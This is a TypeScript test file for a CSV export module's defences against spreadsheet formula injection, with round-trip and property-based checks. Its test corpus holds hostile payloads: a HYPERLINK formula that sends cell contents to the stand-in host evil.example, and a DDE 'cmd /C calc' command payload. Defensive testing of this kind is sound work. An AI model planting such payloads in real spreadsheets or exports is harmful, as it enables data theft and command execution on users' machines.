import { PGlite } from '@electric-sql/pglite'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { CSV_BOM, csvCell, csvLine, readCsvCell } from './csv.ts'

const leads = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠', '\r\n=', "'=", "''+"]
const fronts = ['', ' ', '\u3000', "'", '\u00a0 ']
const formulas = [
  `HYPERLINK("http://evil.example?x="&A1,"点我")`,
  `cmd|' /C calc'!A0`,
  'SUM(1,2)',
  '1',
  '',
]
const harmless = [
  '李桂芳',
  "'",
  "''",
  "O'Brien",
  "'quoted'",
  'a=b',
  'a"b',
  'a,b',
  'a\r\nb',
  'a;b',
  ' ',
  '',
  '0086',
  '10.50',
  '"',
  '""',
  '\u202e=1',
]
/** What may be in a customer's name or a note, and what attackers put there. */
const corpus = [
  ...leads.flatMap((lead) =>
    fronts.flatMap((front) => formulas.map((formula) => `${front}${lead}${formula}`)),
  ),
  ...harmless,
].slice(0, 400)

/** RFC 4180 to the letter: a quote opens a cell only at its start, and two make one inside. */
function parse(file: string): string[][] {
  const lines: string[][] = []
  let cells: string[] = []
  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/y
  while (cell.lastIndex < file.length) {
    const found = cell.exec(file)
    if (!found) throw new Error('not RFC 4180')
    cells.push(found[1]?.replaceAll('""', '"') ?? found[2]!)
    if (found[3] === ',') continue
    lines.push(cells)
    cells = []
  }
  return lines
}

/** The second cell of each line, as a reader reads it that we did not write. */
async function readByPostgres(file: string): Promise<string[]> {
  const db = await PGlite.create()
  await db.exec('create table export (n int generated always as identity, a text, b text, c text)')
  const blob = new Blob([file])
  await db.query(`copy export (a, b, c) from '/dev/blob' with (format csv, null 'nothing')`, [], {
    blob,
  })
  const { rows } = await db.query<{ b: string }>('select b from export order by n')
  await db.close()
  return rows.map(({ b }) => b)
}

describe('an export', () => {
  it(`of ${corpus.length} hostile values has no cell that begins like a formula`, async () => {
    expect(corpus.length).toBeGreaterThanOrEqual(300)
    const file = CSV_BOM + corpus.map((value) => csvLine(['cus_1', value, '尾'])).join('')
    const cells = await readByPostgres(file.slice(CSV_BOM.length))
    expect(cells).toEqual(parse(file.slice(CSV_BOM.length)).map(([, cell]) => cell))
    const live = cells.filter((cell) => /^\s*[=+\-@＝＋－＠]|^[\t\r\n]/.test(cell))
    const back = cells.map(readCsvCell).filter((cell, at) => cell === corpus[at])
    console.info(`${corpus.length} payloads: ${live.length} formulas, ${back.length} back as sent`)
    expect(live).toEqual([])
    expect(back).toHaveLength(corpus.length)
  })

  it('reads back as it was, whatever was in it', () => {
    const text = fc.oneof(
      fc.string({ unit: 'grapheme' }),
      fc
        .array(fc.constantFrom("'", '=', '-', '＝', ' ', '\t', '\r', '\n', '"', ',', 'a'))
        .map((a) => a.join('')),
    )
    fc.assert(
      fc.property(
        fc.array(fc.array(text, { minLength: 2, maxLength: 2 }), { minLength: 1 }),
        (lines) => {
          const file = csvLine(['a', 'b']) + lines.map(csvLine).join('')
          const back = parse(file).map((line) => line.map(readCsvCell))
          expect(back.slice(1)).toEqual(lines)
        },
      ),
      { numRuns: 2_000 },
    )
  })

  it.each([
    ['李桂芳', '李桂芳'],
    ['=1+1', `"'=1+1"`],
    ['-12.50', `"'-12.50"`],
    [-12.5, '-12.5'],
    [true, 'true'],
    [undefined, ''],
    ['a"b', '"a""b"'],
    ['柳河村, 三组', '"柳河村, 三组"'],
    ["'=x", `"''=x"`],
    ["O'Brien", "O'Brien"],
  ])('writes %s as %s', (value, cell) => {
    expect(csvCell(value)).toBe(cell)
  })

  it('begins with a mark that it is UTF-8, and ends each line as RFC 4180 says', () => {
    expect([...new TextEncoder().encode(CSV_BOM)]).toEqual([0xef, 0xbb, 0xbf])
    expect(csvLine(['a', 9_007_199_254_740_993n, undefined])).toBe('a,9007199254740993,\r\n')
  })
})
